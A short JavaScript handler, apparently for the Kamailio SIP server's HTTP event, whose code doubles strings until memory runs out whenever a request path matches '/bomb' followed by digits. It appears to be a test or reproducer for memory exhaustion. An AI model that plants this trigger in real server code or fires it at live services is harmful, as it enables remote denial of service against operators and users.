// Doubles strings until memory ends, and makes each of them flat.

function bomb() {
	const all = [];
	for (;;) {
		let s = `${all.length}x`;
		for (let i = 0; i < 24; i++) {
			s += s;
			s.charCodeAt(1);
		}
		all.push(s);
	}
}

function ksr_xhttp_event() {
	const way = /^\/bomb(\d+)$/.exec(KSR.pv.get("$hu"))?.[1];
	if (way) bomb();
	KSR.xhttp.xhttp_reply(200, "OK", "text/plain", "fine");
}
